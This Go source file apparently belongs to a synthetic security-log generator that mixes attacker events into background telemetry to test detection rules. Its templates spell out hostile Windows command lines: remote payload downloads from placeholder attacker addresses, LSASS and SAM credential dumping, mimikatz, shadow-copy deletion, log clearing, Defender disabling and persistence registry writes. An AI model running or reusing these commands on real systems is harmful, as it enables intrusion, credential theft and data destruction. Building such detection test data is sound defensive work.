package gen

import (
	"time"
)

// The catalogue of suspicious events that Options.HitRate mixes into the
// background: the attack story's commands, common LOLBin, discovery,
// download and defence-evasion command lines, suspicious file drops and
// registry writes, attacker logons and proxy requests (proxy.go). Each entry
// is chosen so that rules of the SigmaHQ corpus or Vigil's starter rules
// fire on it (a test in this package checks that against the corpus). Strings
// take the %-codes of catalog.go, plus %a: an attacker address on the
// Internet (documentation ranges).

// hitProcTmpl is a suspicious process creation.
type hitProcTmpl struct {
	roles     role     // hosts it happens on
	parent    procKind // the host's long-running parent, unless parentImg is set
	parentImg *image   // a short-lived parent (an Office document, a script host)
	parentCmd string
	img       *image
	acct      acctKind // acctUser only on workstations
	cmd       string
	cwd       string // "" means the user's home (workstations) or C:\Windows\system32\
}

// The story's command lines (story.go), as hits.
var (
	storyPowerShell = `powershell.exe  -nop -w hidden -enc ` + encodePowerShell(EncodedScript)
	storyCertutil   = `"C:\Windows\system32\certutil.exe" -urlcache -split -f http://` + C2IP + `/a.exe C:\Users\Public\a.exe`
)

var hitProcTemplates = []hitProcTmpl{
	// The story.
	{roleWorkstation, pCmd, nil, "", imgWhoami, acctParent, `whoami  /all`, ""},
	{roleWorkstation, pCmd, nil, "", imgNet, acctParent, `net  group "domain admins" /domain`, ""},
	{roleWorkstation, pCmd, nil, "", imgPowerShell, acctParent, storyPowerShell, ""},
	{roleWorkstation, 0, imgPowerShell, storyPowerShell, imgCertutil, acctUser, storyCertutil, ""},
	{roleWorkstation, pCmd, nil, "", imgRundll32, acctParent, `rundll32.exe  C:\Windows\System32\comsvcs.dll, MiniDump %n C:\Users\Public\l.dmp full`, ""},
	{roleAny, pSvcSchedule, nil, "", imgVssadmin, acctSystem, `vssadmin.exe  delete shadows /all /quiet`, ""},
	{roleWorkstation, pCmd, nil, "", imgReg, acctParent, `reg.exe  save HKLM\SAM C:\Users\Public\sam.save`, ""},
	// Initial access: Office and script hosts starting interpreters and downloaders.
	{roleWorkstation, 0, imgWinword, `"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\%u\Downloads\Invoice_%n.doc"`, imgPowerShell, acctUser,
		`powershell.exe -NoP -W Hidden -C "IEX (New-Object Net.WebClient).DownloadString('http://%a/update.ps1')"`, ""},
	{roleWorkstation, 0, imgExcel, `"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "C:\Users\%u\Downloads\Payment_%n.xls"`, imgCmd, acctUser,
		`C:\Windows\system32\cmd.exe /c mshta http://%a/p.hta`, ""},
	{roleWorkstation, pExplorer, nil, "", imgMshta, acctParent, `"C:\Windows\System32\mshta.exe" http://%a/payload.hta`, ""},
	{roleWorkstation, pExplorer, nil, "", imgWscript, acctParent, `"C:\Windows\System32\WScript.exe" "C:\Users\%u\AppData\Local\Temp\Temp1_Invoice_%n.zip\Invoice_%n.js"`, ""},
	{roleWorkstation, pCmd, nil, "", imgRegsvr32, acctParent, `regsvr32  /s /n /u /i:http://%a/file.sct scrobj.dll`, ""},
	{roleWorkstation, pCmd, nil, "", imgBitsadmin, acctParent, `bitsadmin  /transfer update /download /priority high http://%a/svc.exe C:\Users\Public\svc.exe`, ""},
	{roleWorkstation, pCmd, nil, "", imgCurl, acctParent, `curl  -s -o C:\Users\Public\p.exe http://%a/p.exe`, ""},
	{roleWorkstation, pCmd, nil, "", imgCertutil, acctParent, `certutil  -decode C:\Users\Public\enc.txt C:\Users\Public\payload.dll`, ""},
	{roleWorkstation, pCmd, nil, "", imgRundll32, acctParent, `rundll32.exe  C:\Users\Public\payload.dll,DllRegisterServer`, ""},
	// Discovery.
	{roleWorkstation, pCmd, nil, "", imgNltest, acctParent, `nltest  /domain_trusts /all_trusts`, ""},
	{roleWorkstation, pCmd, nil, "", imgNet, acctParent, `net  user /domain`, ""},
	{roleWorkstation, pCmd, nil, "", imgAdFind, acctParent, `AdFind.exe  -f "(objectcategory=computer)" -csv name operatingSystem`, ""},
	{roleWorkstation, pCmd, nil, "", imgWmic, acctParent, `wmic  /node:%d process call create "cmd.exe /c whoami > C:\Windows\Temp\o.txt"`, ""},
	// Credential access.
	{roleWorkstation, pCmd, nil, "", imgProcdump, acctParent, `C:\Users\Public\procdump64.exe  -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp`, ""},
	{roleWorkstation, pCmd, nil, "", imgMimikatz, acctParent, `m.exe  "privilege::debug" "sekurlsa::logonpasswords" exit`, ""},
	// Persistence and defence evasion.
	{roleAny, pCmd, nil, "", imgSchtasks, acctParent, `schtasks  /create /sc minute /mo 30 /tn "OneDrive Sync Helper" /tr "C:\Users\Public\svc.exe" /ru SYSTEM /f`, ""},
	{roleWorkstation, pCmd, nil, "", imgNet, acctParent, `net  localgroup administrators support /add`, ""},
	{roleAny, pCmd, nil, "", imgWevtutil, acctParent, `wevtutil  cl Security`, ""},
	{roleAny, pCmd, nil, "", imgBcdedit, acctParent, `bcdedit  /set {default} recoveryenabled No`, ""},
	{roleAny, pCmd, nil, "", imgWbadmin, acctParent, `wbadmin  delete catalog -quiet`, ""},
	{roleAny, pCmd, nil, "", imgNetsh, acctParent, `netsh  advfirewall set allprofiles state off`, ""},
	{roleAny, pCmd, nil, "", imgSc, acctParent, `sc  stop WinDefend`, ""},
	{roleWorkstation, pCmd, nil, "", imgPowerShell, acctParent, `powershell.exe  -ep bypass -c "Set-MpPreference -DisableRealtimeMonitoring $true"`, ""},
}

// hitFileTmpl is a suspicious file creation (Sysmon 11).
type hitFileTmpl struct {
	roles role
	img   *image // the process writing the file, started by the host's user (SYSTEM off workstations)
	path  string
}

var hitFileTemplates = []hitFileTmpl{
	{roleWorkstation, imgCertutil, `C:\Users\Public\a.exe`},
	{roleWorkstation, imgRundll32, `C:\Users\Public\lsass.dmp`},
	{roleWorkstation, imgProcdump, `C:\Users\%u\AppData\Local\Temp\lsass_%n.dmp`},
	{roleWorkstation, imgReg, `C:\Users\Public\sam.save`},
	{roleWorkstation, imgWinword, `C:\Users\%u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\update.vbs`},
	{roleWorkstation, imgPowerShell, `C:\Users\%u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\OneDrive.lnk`},
	{roleWorkstation, imgMimikatz, `C:\Users\Public\ticket_%n.kirbi`},
	{roleWorkstation, imgOutlook, `C:\Users\%u\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\%X\Invoice_%n.hta`},
	{roleWorkstation, imgPowerShell, `C:\Users\Public\Documents\%x.ps1`},
	{roleWorkstation, imgWscript, `C:\Users\%u\AppData\Local\Temp\%x.vbs`},
	{roleAny, imgCmd, `C:\Windows\PSEXESVC.exe`},
}

// hitRegTmpl is a suspicious registry value write (Sysmon 13).
type hitRegTmpl struct {
	roles   role
	img     *image // the process writing the value (as hitFileTmpl.img)
	key     string
	details string
}

var hitRegTemplates = []hitRegTmpl{
	{roleWorkstation, imgReg, `HKU\%s\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDriveUpdate`, `C:\Users\Public\svc.exe`},
	{roleWorkstation, imgPowerShell, `HKU\%s\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`, `powershell.exe -w hidden -enc SQBFAFgA`},
	{roleAny, imgReg, `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`, `DWORD (0x00000001)`},
	{roleAny, imgReg, `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring`, `DWORD (0x00000001)`},
	{roleAny, imgReg, `HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential`, `DWORD (0x00000001)`},
	{roleAny, imgReg, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger`, `C:\Windows\System32\cmd.exe`},
	{roleAny, imgReg, `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\EnableLUA`, `DWORD (0x00000000)`},
	{roleAny, imgReg, `HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections`, `DWORD (0x00000000)`},
	{roleAny, imgReg, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit`, `C:\Windows\system32\userinit.exe,C:\Users\Public\svc.exe`},
	{roleAny, imgSc, `HKLM\System\CurrentControlSet\Services\UpdateSvc\ImagePath`, `cmd.exe /c C:\Users\Public\svc.exe`},
}

// hitLogon writes a suspicious Security event.
type hitLogon func(g *Generator, dst []byte, t time.Time) []byte

var hitLogons = []hitLogon{
	(*Generator).hitFailedExternal,
	(*Generator).hitRDPExternal,
	(*Generator).hitSMBExternal,
	(*Generator).hitOverpassTheHash,
}

// Hit kinds, for the hit picker.
const (
	hitKindProcess = iota
	hitKindFile
	hitKindRegistry
	hitKindLogon
	hitKindProxy
)

// newHitPicker weighs the hit kinds like the background kinds they resemble;
// network connections have no hits.
func newHitPicker(w []int) picker {
	return newPicker([]int{w[kindProcess], w[kindFile], w[kindRegistry], w[kindLogon] + w[kindLogoff] + w[kindPrivileges], w[kindProxy]})
}

// attackerIPs are the Internet addresses hits come from (documentation ranges).
var attackerIPs = []string{SprayIP, BruteIP, C2IP, "192.0.2.44", "198.51.100.91", "203.0.113.187"}

// hit emits one suspicious event.
func (g *Generator) hit(dst []byte, t time.Time) []byte {
	switch g.hitKinds.pick(g.rng) {
	case hitKindProcess:
		return g.hitProcess(dst, t, &hitProcTemplates[g.rng.IntN(len(hitProcTemplates))])
	case hitKindFile:
		return g.hitFile(dst, t, &hitFileTemplates[g.rng.IntN(len(hitFileTemplates))])
	case hitKindRegistry:
		return g.hitRegistry(dst, t, &hitRegTemplates[g.rng.IntN(len(hitRegTemplates))])
	case hitKindLogon:
		return hitLogons[g.rng.IntN(len(hitLogons))](g, dst, t)
	default:
		return g.hitProxy(dst, t, &hitProxyTemplates[g.rng.IntN(len(hitProxyTemplates))])
	}
}

// hostWith draws a host of one of the roles.
func (g *Generator) hostWith(roles role) *host {
	es := g.e
	n := 0
	for _, r := range []struct {
		r   role
		idx []int
	}{{roleDC, es.dcs}, {roleServer, es.servers}, {roleWorkstation, es.workstations}} {
		if roles&r.r != 0 {
			n += len(r.idx)
		}
	}
	k := g.rng.IntN(n)
	for _, r := range []struct {
		r   role
		idx []int
	}{{roleDC, es.dcs}, {roleServer, es.servers}, {roleWorkstation, es.workstations}} {
		if roles&r.r == 0 {
			continue
		}
		if k < len(r.idx) {
			return &es.hosts[r.idx[k]]
		}
		k -= len(r.idx)
	}
	panic("unreachable")
}

// actor is the account a hit's process runs as on h: the desktop user on
// workstations, SYSTEM elsewhere.
func actor(h *host) *account {
	if h.user >= 0 {
		return &h.interactive
	}
	return &h.system
}

// transientProc sets g.hitProc to a newly started process of img on h.
func (g *Generator) transientProc(h *host, img *image, cmd string, acct *account, t time.Time) *proc {
	u := g.hostUser(h)
	h.seq++
	p := &g.hitProc
	p.img, p.acct = img, acct
	p.path = string(g.expand(g.bufAux[:0], img.path, h, u))
	p.cmd = string(g.expand(g.bufAux[:0], cmd, h, u))
	p.pid = g.newPID()
	p.guid = processGUID(h.guidHi, t.Unix()-1-g.rng.Int64N(30), h.seq, h.guidTail)
	return p
}

func (g *Generator) hitProcess(dst []byte, t time.Time, tp *hitProcTmpl) []byte {
	h := g.hostWith(tp.roles)
	u := g.hostUser(h)
	var parent *proc
	if tp.parentImg != nil {
		parent = g.transientProc(h, tp.parentImg, tp.parentCmd, actor(h), t)
	} else {
		parent = &h.procs[tp.parent]
		if parent.img == nil { // a user process on a server: use the command shell of SYSTEM
			parent = g.transientProc(h, imgCmd, `C:\Windows\system32\cmd.exe`, &h.system, t)
		}
	}
	cwd := tp.cwd
	if cwd == "" {
		cwd = `C:\Windows\system32\`
		if u != nil {
			cwd = `C:\Users\%u\`
		}
	}
	acct := parent.acct
	switch tp.acct {
	case acctUser:
		acct = actor(h)
	case acctSystem:
		acct = &h.system
	}
	return g.appendNewProcess(dst, h, u, t, tp.img, tp.cmd, cwd, parent, acct)
}

func (g *Generator) hitFile(dst []byte, t time.Time, tf *hitFileTmpl) []byte {
	h := g.hostWith(tf.roles)
	p := g.transientProc(h, tf.img, tf.img.path, actor(h), t)
	g.bufCwd = g.expand(g.bufCwd[:0], tf.path, h, g.hostUser(h))
	return g.appendFileCreate(dst, h, t, p, g.bufCwd, g.sysmonUTC(t))
}

func (g *Generator) hitRegistry(dst []byte, t time.Time, tr *hitRegTmpl) []byte {
	h := g.hostWith(tr.roles)
	p := g.transientProc(h, tr.img, tr.img.path, actor(h), t)
	u := g.hostUser(h)
	g.bufPath = g.expand(g.bufPath[:0], tr.key, h, u)
	g.bufCwd = g.expand(g.bufCwd[:0], tr.details, h, u)
	return g.appendRegSet(dst, h, t, p, g.bufPath, g.bufCwd, g.sysmonUTC(t))
}

// ---- Logons -----------------------------------------------------------------

func (g *Generator) attackerIP() string { return attackerIPs[g.rng.IntN(len(attackerIPs))] }

// hitFailedExternal is a failed network logon from the Internet (spraying or guessing).
func (g *Generator) hitFailedExternal(dst []byte, t time.Time) []byte {
	u := &g.e.users[g.rng.IntN(len(g.e.users))]
	h := g.hostWith(roleDC | roleServer)
	e := logonEvent{
		logonType: 3, user: u.name, domain: domainNB,
		ip: g.attackerIP(), port: g.ephemeralPort(), workstation: sprayWorkstation,
		logonProcess: "NtLmSsp ", authPackage: "NTLM", lmPkg: "-", procName: "-",
		status: "0xc000006d", subStatus: "0xc000006a",
	}
	e.subjectNull()
	return g.appendLogonFailure(dst, h, t, &e)
}

// hitRDPExternal is a successful RDP logon from the Internet.
func (g *Generator) hitRDPExternal(dst []byte, t time.Time) []byte {
	h := g.hostWith(roleWorkstation | roleServer)
	u := &g.e.users[g.rng.IntN(len(g.e.users))]
	lg := makeGUID(g.rng.Uint32(), uint16(g.rng.Uint32()), uint16(g.rng.Uint32()), uint16(g.rng.Uint32()), g.rng.Uint64()>>16)
	e := logonEvent{
		logonType: 10, user: u.name, domain: domainNB, sid: u.sid,
		logonID: g.newLogonID(), logonGUID: &lg,
		procID: uint64(h.procs[pSvcNetsvcs].pid), procName: imgSvchost.path,
		logonProcess: "User32 ", authPackage: "Negotiate", lmPkg: "-",
		workstation: bruteWorkstation, ip: g.attackerIP(), port: 0,
		restrictedAdmin: "%%1843",
	}
	e.subjectMachine(h)
	return g.appendLogon(dst, h, t, &e)
}

// hitSMBExternal is a successful NTLM network logon from the Internet.
func (g *Generator) hitSMBExternal(dst []byte, t time.Time) []byte {
	h := g.hostWith(roleServer)
	u := &g.e.users[g.rng.IntN(len(g.e.users))]
	e := logonEvent{
		logonType: 3, user: u.name, domain: domainNB, sid: u.sid,
		logonID: g.newLogonID(), procName: "-",
		logonProcess: "NtLmSsp ", authPackage: "NTLM", lmPkg: "NTLM V2", keyLength: 128,
		workstation: sprayWorkstation, ip: g.attackerIP(), port: g.ephemeralPort(),
		restrictedAdmin: "-",
	}
	e.subjectNull()
	return g.appendLogon(dst, h, t, &e)
}

// hitOverpassTheHash is a new-credentials logon (runas /netonly, sekurlsa::pth): LogonType 9
// through seclogo.
func (g *Generator) hitOverpassTheHash(dst []byte, t time.Time) []byte {
	h := g.hostWith(roleWorkstation)
	u := &g.e.users[h.user]
	e := logonEvent{
		logonType: 9, user: u.name, domain: domainNB, sid: u.sid,
		logonID: g.newLogonID(), procID: uint64(g.newPID()), procName: `C:\Windows\System32\svchost.exe`,
		logonProcess: "seclogo", authPackage: "Negotiate", lmPkg: "-",
		workstation: "-", ip: "::1", port: 0, restrictedAdmin: "-",
	}
	e.subjSID, e.subjUser, e.subjDomain, e.subjLogonID = u.sid, u.name, domainNB, h.interactive.logonID
	return g.appendLogon(dst, h, t, &e)
}
